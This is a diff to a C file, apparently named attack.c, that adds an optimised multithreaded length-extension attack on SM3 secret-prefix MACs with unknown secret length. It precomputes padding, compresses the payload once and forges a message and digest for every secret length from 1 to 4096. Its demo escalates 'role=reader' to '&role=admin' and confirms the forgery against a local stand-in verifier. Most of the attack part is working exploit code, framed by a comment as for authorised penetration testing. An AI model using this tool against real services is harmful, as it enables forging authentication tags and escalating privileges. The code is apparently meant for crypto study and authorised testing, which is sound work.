@@ -2,132 +2,12 @@
 #include <stdlib.h>
 #include <string.h>
 #include <stdint.h>
+#include <time.h>
 
-#define SM3_DIGEST_SIZE 32
-#define SM3_BLOCK_SIZE 64
-
-// --- SM3基础数据与函数，和你的优化代码基本一致 ---
-
-static const uint32_t SM3_IV[8] = {
-    0x7380166F,0x4914B2B9,0x172442D7,0xDA8A0600,
-    0xA96F30BC,0x163138AA,0xE38DEE4D,0xB0FB0E4E
-};
-
-static const uint32_t T[64] = {
-    0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,
-    0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,
-    0x79CC4519,0x79CC4519,0x79CC4519,0x79CC4519,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A,
-    0x7A879D8A,0x7A879D8A,0x7A879D8A,0x7A879D8A
-};
-
-#define ROTL32(x,n) (((x) << (n)) | ((x) >> (32 - (n))))
-#define P0(x) ((x) ^ ROTL32((x),9) ^ ROTL32((x),17))
-#define P1(x) ((x) ^ ROTL32((x),15) ^ ROTL32((x),23))
-#define FF(x,y,z,j) ((j)<16 ? ((x)^(y)^(z)) : (((x)&(y))|((x)&(z))|((y)&(z))))
-#define GG(x,y,z,j) ((j)<16 ? ((x)^(y)^(z)) : (((x)&(y))|((~(x))&(z))))
-
-static uint32_t be32_to_cpu(const uint8_t *p) {
-    return (p[0]<<24) | (p[1]<<16) | (p[2]<<8) | p[3];
-}
-static void cpu_to_be32(uint32_t val, uint8_t *p) {
-    p[0] = val >> 24; p[1] = val >> 16; p[2] = val >> 8; p[3] = val;
-}
-
-typedef struct {
-    uint64_t total_len;    // 总字节数
-    uint32_t state[8];
-    uint8_t buffer[SM3_BLOCK_SIZE];
-    int buffer_len;
-} SM3_CTX;
-
-// 你给的优化1压缩函数（这里用你原版压缩函数即可）
-void sm3_compress(uint32_t state[8], const uint8_t block[64]) {
-    uint32_t W[68], W1[64];
-    uint32_t A,B,C,D,E,F,G,H,SS1,SS2,TT1,TT2;
-    int j;
-
-    for (j=0;j<16;j++) W[j] = be32_to_cpu(block+j*4);
-    for (j=16;j<68;j++) {
-        W[j] = P1(W[j-16]^W[j-9]^ROTL32(W[j-3],15)) ^ ROTL32(W[j-13],7) ^ W[j-6];
-    }
-    for (j=0;j<64;j++) {
-        W1[j] = W[j]^W[j+4];
-    }
-
-    A=state[0]; B=state[1]; C=state[2]; D=state[3];
-    E=state[4]; F=state[5]; G=state[6]; H=state[7];
-
-    for (j=0;j<64;j++) {
-        SS1 = ROTL32(ROTL32(A,12) + E + ROTL32(T[j],j),7);
-        SS2 = SS1 ^ ROTL32(A,12);
-        TT1 = FF(A,B,C,j) + D + SS2 + W1[j];
-        TT2 = GG(E,F,G,j) + H + SS1 + W[j];
-        D = C; C = ROTL32(B,9); B = A; A = TT1;
-        H = G; G = ROTL32(F,19); F = E; E = P0(TT2);
-    }
-
-    state[0] ^= A; state[1] ^= B; state[2] ^= C; state[3] ^= D;
-    state[4] ^= E; state[5] ^= F; state[6] ^= G; state[7] ^= H;
-}
-
-void sm3_init(SM3_CTX *ctx) {
-    ctx->total_len = 0;
-    ctx->buffer_len = 0;
-    memcpy(ctx->state, SM3_IV, sizeof(SM3_IV));
-}
-
-void sm3_update(SM3_CTX *ctx, const uint8_t *data, size_t len) {
-    size_t fill = SM3_BLOCK_SIZE - ctx->buffer_len;
-    ctx->total_len += len;
-
-    if (ctx->buffer_len && len >= fill) {
-        memcpy(ctx->buffer + ctx->buffer_len, data, fill);
-        sm3_compress(ctx->state, ctx->buffer);
-        data += fill; len -= fill;
-        ctx->buffer_len = 0;
-    }
-
-    while (len >= SM3_BLOCK_SIZE) {
-        sm3_compress(ctx->state, data);
-        data += SM3_BLOCK_SIZE; len -= SM3_BLOCK_SIZE;
-    }
+#include "sm3.h"
+#include "thread_pool.h"
 
-    if (len > 0) {
-        memcpy(ctx->buffer + ctx->buffer_len, data, len);
-        ctx->buffer_len += len;
-    }
-}
-
-void sm3_final(SM3_CTX *ctx, uint8_t digest[SM3_DIGEST_SIZE]) {
-    uint64_t total_bits = ctx->total_len * 8;
-    int padding_len = (ctx->buffer_len < 56) ? (56 - ctx->buffer_len) : (120 - ctx->buffer_len);
-    uint8_t padding[128] = {0};
-    padding[0] = 0x80;
-
-    for (int i=0; i<8; i++) {
-        padding[padding_len + i] = (total_bits >> (56 - 8*i)) & 0xFF;
-    }
-
-    sm3_update(ctx, padding, padding_len + 8);
-
-    for (int i=0; i<8; i++) {
-        cpu_to_be32(ctx->state[i], digest + i*4);
-    }
-}
-
-void sm3_hash(const uint8_t *data, size_t len, uint8_t digest[SM3_DIGEST_SIZE]) {
-    SM3_CTX ctx;
-    sm3_init(&ctx);
-    sm3_update(&ctx, data, len);
-    sm3_final(&ctx, digest);
-}
+// gcc -O2 attack.c -o attack -lpthread
 
 // ---- b) length extension attack ----
 
@@ -183,12 +63,8 @@ void length_extension_attack_demo() {
 
     // 模拟攻击：使用orig_digest作为中间状态，继续用扩展消息做压缩
     SM3_CTX ctx;
-    // 把orig_digest转为state（大端转uint32_t）
-    for(int i=0;i<8;i++) {
-        ctx.state[i] = (orig_digest[4*i]<<24)|(orig_digest[4*i+1]<<16)|(orig_digest[4*i+2]<<8)|(orig_digest[4*i+3]);
-    }
-    ctx.total_len = new_msg_len; // 注意这一步，要用padding后的长度，保证位数统计正确
-    ctx.buffer_len = 0;
+    // 把orig_digest作为state，长度要用padding后的长度，保证位数统计正确
+    sm3_resume(&ctx, orig_digest, new_msg_len);
 
     // 扩展消息长度
     sm3_update(&ctx, (const uint8_t*)ext_msg, strlen(ext_msg));
@@ -219,8 +95,198 @@ void length_extension_attack_demo() {
     }
 }
 
+// ---- 未知密钥长度的并行长度扩展扫描 ----
+// 仅用于授权的渗透测试：目标为 tag = SM3(secret || msg) 形式的旧式MAC，secret长度未知。
+// 对每个候选长度s，原始输入长度 L = s + msg_len，伪造消息为 msg || pad(L) || payload，
+// 伪造摘要为从tag继续压缩payload的结果。
+//
+// 优化：
+// 1. 继续压缩的起点对所有s都是tag，payload的完整分组与s无关，只压缩一次；
+//    每个候选只剩最后1~2个填充分组（其中的比特长度随s变化）
+// 2. 填充长度只取决于 L mod 64，按64个长度类预先算好
+// 3. 候选按区间分批交给工作窃取线程池并行计算
+
+typedef struct {
+    size_t secret_len;
+    const uint8_t *forged_msg;   // msg || pad(L) || payload，指向sweep->blob
+    size_t forged_len;
+    uint8_t digest[SM3_DIGEST_SIZE];
+} LE_CANDIDATE;
+
+typedef struct {
+    LE_CANDIDATE *cand;
+    size_t count;
+    uint8_t *blob;               // 所有伪造消息连续存放
+} LE_SWEEP;
+
+typedef struct {
+    const uint8_t *msg;
+    size_t msg_len;
+    const uint8_t *payload;
+    size_t payload_len;
+    size_t min_secret;
+    size_t pad_len[SM3_BLOCK_SIZE];   // 按 L mod 64 的填充长度（含8字节长度域）
+    SM3_CTX after_payload;            // 从tag出发、已压缩payload完整分组的上下文
+    LE_SWEEP *sweep;
+    size_t *offset;
+} LE_JOB;
+
+static void le_sweep_task(void *arg, size_t begin, size_t end) {
+    LE_JOB *job = arg;
+    for (size_t i = begin; i < end; ++i) {
+        LE_CANDIDATE *c = &job->sweep->cand[i];
+        uint64_t L = job->min_secret + i + job->msg_len;
+        size_t pad_len = job->pad_len[L % SM3_BLOCK_SIZE];
+        uint8_t *p = job->sweep->blob + job->offset[i];
+
+        memcpy(p, job->msg, job->msg_len);
+        sm3_padding(L, p + job->msg_len);
+        memcpy(p + job->msg_len + pad_len, job->payload, job->payload_len);
+        c->secret_len = job->min_secret + i;
+        c->forged_msg = p;
+        c->forged_len = job->msg_len + pad_len + job->payload_len;
+
+        // 只有最终填充中的总长度随s变化
+        SM3_CTX ctx = job->after_payload;
+        ctx.total_len = L + pad_len + job->payload_len;
+        sm3_final(&ctx, c->digest);
+    }
+}
+
+// 对secret长度 min_secret..max_secret 逐一伪造。返回0；区间无效（max_secret < min_secret，
+// 或覆盖整个size_t范围）或内存不足返回-1
+int length_extension_sweep(const uint8_t tag[SM3_DIGEST_SIZE], const uint8_t *msg, size_t msg_len,
+                           size_t min_secret, size_t max_secret, const uint8_t *payload, size_t payload_len,
+                           int nthreads, LE_SWEEP *sweep) {
+    LE_JOB job;
+    size_t n, total = 0;
+    uint8_t scratch[128];
+
+    sweep->cand = NULL; sweep->blob = NULL; sweep->count = 0;
+    if (max_secret < min_secret || max_secret - min_secret == SIZE_MAX) return -1;
+    n = max_secret - min_secret + 1;
+
+    job.msg = msg; job.msg_len = msg_len;
+    job.payload = payload; job.payload_len = payload_len;
+    job.min_secret = min_secret;
+    for (size_t r = 0; r < SM3_BLOCK_SIZE; ++r) job.pad_len[r] = sm3_padding(r, scratch);
+    sm3_resume(&job.after_payload, tag, 0);
+    sm3_update(&job.after_payload, payload, payload_len);
+
+    sweep->count = n;
+    sweep->cand = malloc(n * sizeof(LE_CANDIDATE));
+    job.offset = malloc(n * sizeof(size_t));
+    if (!sweep->cand || !job.offset) goto fail;
+    for (size_t i = 0; i < n; ++i) {
+        job.offset[i] = total;
+        total += msg_len + job.pad_len[(min_secret + i + msg_len) % SM3_BLOCK_SIZE] + payload_len;
+    }
+    sweep->blob = malloc(total ? total : 1);
+    if (!sweep->blob) goto fail;
+
+    job.sweep = sweep;
+    pool_parallel_for(n, 64, nthreads, le_sweep_task, &job);
+    free(job.offset);
+    return 0;
+
+fail:
+    free(sweep->cand); free(job.offset);
+    sweep->cand = NULL; sweep->blob = NULL; sweep->count = 0;
+    return -1;
+}
+
+void le_sweep_free(LE_SWEEP *sweep) {
+    free(sweep->cand);
+    free(sweep->blob);
+}
+
+// 本地替身验证端：持有密钥，检查 SM3(secret || msg) == tag
+typedef struct {
+    const uint8_t *secret;
+    size_t secret_len;
+} LE_ORACLE;
+
+static int le_oracle_verify(const LE_ORACLE *o, const uint8_t *msg, size_t len, const uint8_t tag[SM3_DIGEST_SIZE]) {
+    SM3_CTX ctx;
+    uint8_t d[SM3_DIGEST_SIZE];
+    sm3_init(&ctx);
+    sm3_update(&ctx, o->secret, o->secret_len);
+    sm3_update(&ctx, msg, len);
+    sm3_final(&ctx, d);
+    return memcmp(d, tag, SM3_DIGEST_SIZE) == 0;
+}
+
+static double now_sec(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec + ts.tv_nsec * 1e-9;
+}
+
+void length_extension_sweep_demo() {
+    printf("\n--- Length Extension Sweep (unknown secret length) ---\n");
+
+    // 替身验证端的密钥，攻击者不知道其内容和长度
+    const char *secret = "s3cr3t-key-of-len-23!!!";
+    LE_ORACLE oracle = { (const uint8_t *)secret, strlen(secret) };
+    const char *msg = "user=guest&role=reader";
+    const char *payload = "&role=admin";
+
+    uint8_t tag[SM3_DIGEST_SIZE];
+    SM3_CTX ctx;
+    sm3_init(&ctx);
+    sm3_update(&ctx, oracle.secret, oracle.secret_len);
+    sm3_update(&ctx, (const uint8_t *)msg, strlen(msg));
+    sm3_final(&ctx, tag);
+
+    const size_t min_secret = 1, max_secret = 4096;
+    LE_SWEEP sweep;
+    double t0 = now_sec();
+    if (length_extension_sweep(tag, (const uint8_t *)msg, strlen(msg), min_secret, max_secret,
+                               (const uint8_t *)payload, strlen(payload), 0, &sweep) != 0) {
+        printf("out of memory\n");
+        return;
+    }
+    double t1 = now_sec();
+    printf("Swept secret lengths %zu..%zu in %.3f ms\n", min_secret, max_secret, (t1 - t0) * 1e3);
+
+    // 与逐个长度单独执行完整攻击（每次重新压缩payload）的结果一致
+    int same = 1;
+    for (size_t i = 0; i < sweep.count; i += 97) {
+        LE_CANDIDATE *c = &sweep.cand[i];
+        uint8_t d[SM3_DIGEST_SIZE];
+        uint8_t pad[128];
+        size_t pad_len = sm3_padding(c->secret_len + strlen(msg), pad);
+        sm3_resume(&ctx, tag, c->secret_len + strlen(msg) + pad_len);
+        sm3_update(&ctx, (const uint8_t *)payload, strlen(payload));
+        sm3_final(&ctx, d);
+        same &= memcmp(d, c->digest, SM3_DIGEST_SIZE) == 0;
+    }
+    printf("Matches per-length attack: %s\n", same ? "YES" : "NO");
+    LE_SWEEP bad;
+    printf("Reversed length range rejected: %s\n",
+           length_extension_sweep(tag, (const uint8_t *)msg, strlen(msg), 10, 9,
+                                  (const uint8_t *)payload, strlen(payload), 0, &bad) == -1 ? "YES" : "NO");
+
+    size_t hits = 0;
+    t0 = now_sec();
+    for (size_t i = 0; i < sweep.count; ++i) {
+        LE_CANDIDATE *c = &sweep.cand[i];
+        if (le_oracle_verify(&oracle, c->forged_msg, c->forged_len, c->digest)) {
+            printf("Accepted: secret length %zu, forged hash ", c->secret_len);
+            for (int k = 0; k < SM3_DIGEST_SIZE; k++) printf("%02x", c->digest[k]);
+            printf("\n");
+            hits++;
+        }
+    }
+    t1 = now_sec();
+    printf("Checked %zu candidates against local verifier in %.3f ms, %zu accepted\n",
+           sweep.count, (t1 - t0) * 1e3, hits);
+    le_sweep_free(&sweep);
+}
+
 int main() {
     length_extension_attack_demo();
+    length_extension_sweep_demo();
 
     return 0;
 }